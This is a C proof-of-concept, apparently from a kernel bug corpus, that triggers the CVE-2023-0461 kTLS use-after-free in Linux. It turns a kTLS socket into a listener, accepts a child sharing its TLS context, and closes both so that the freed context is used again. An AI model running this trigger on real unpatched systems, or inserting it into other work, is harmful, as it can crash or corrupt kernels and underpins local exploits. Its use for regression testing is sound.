// SPDX-License-Identifier: GPL-2.0
/*
 * CVE-2023-0461 trigger, written for krr's bug corpus from the fix (2c02d41d71f9): a TCP socket
 * with the kTLS upper-layer protocol attached is disconnected and made to listen; the child it
 * accepts is a copy that points at the same TLS context. Closing the child frees the context,
 * closing the listener uses it again.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#ifndef TCP_ULP
#define TCP_ULP 31
#endif

static void die(const char *what)
{
	perror(what);
	exit(1);
}

/* A TCP socket on the loopback; bound to an ephemeral port and listening if asked. */
static int tcp_socket(int listening, struct sockaddr_in *addr)
{
	socklen_t len = sizeof(*addr);
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	if (fd < 0)
		die("socket");
	if (listening) {
		memset(addr, 0, sizeof(*addr));
		addr->sin_family = AF_INET;
		addr->sin_addr.s_addr = htonl(INADDR_LOOPBACK);
		if (bind(fd, (struct sockaddr *)addr, sizeof(*addr)) < 0)
			die("bind");
		if (listen(fd, 4) < 0)
			die("listen");
		if (getsockname(fd, (struct sockaddr *)addr, &len) < 0)
			die("getsockname");
	}
	return fd;
}

int main(void)
{
	struct sockaddr_in server, again;
	struct sockaddr unspec = { .sa_family = AF_UNSPEC };
	socklen_t len = sizeof(again);
	int srv = tcp_socket(1, &server);
	int s = tcp_socket(0, NULL);
	int peer, client, child;

	if (connect(s, (struct sockaddr *)&server, sizeof(server)) < 0)
		die("connect");
	peer = accept(srv, NULL, NULL);
	if (peer < 0)
		die("accept");
	/* kTLS attaches only to an established socket. */
	if (setsockopt(s, SOL_TCP, TCP_ULP, "tls", sizeof("tls")) < 0)
		die("setsockopt(TCP_ULP, tls)");
	if (connect(s, &unspec, sizeof(unspec)) < 0)
		die("connect(AF_UNSPEC)");
	if (listen(s, 4) < 0)
		die("listen on the kTLS socket (refused where the bug is fixed)");
	if (getsockname(s, (struct sockaddr *)&again, &len) < 0)
		die("getsockname");
	again.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	client = tcp_socket(0, NULL);
	if (connect(client, (struct sockaddr *)&again, sizeof(again)) < 0)
		die("connect to the kTLS listener");
	child = accept(s, NULL, NULL);
	if (child < 0)
		die("accept from the kTLS listener");
	printf("accepted a child of a kTLS listener; closing both\n");
	fflush(stdout);
	close(child);
	/* Let RCU free the context the child's close released (kfree_rcu batches, then waits for a
	 * grace period). */
	sleep(5);
	close(s);
	puts("closed both without a report");
	return 0;
}
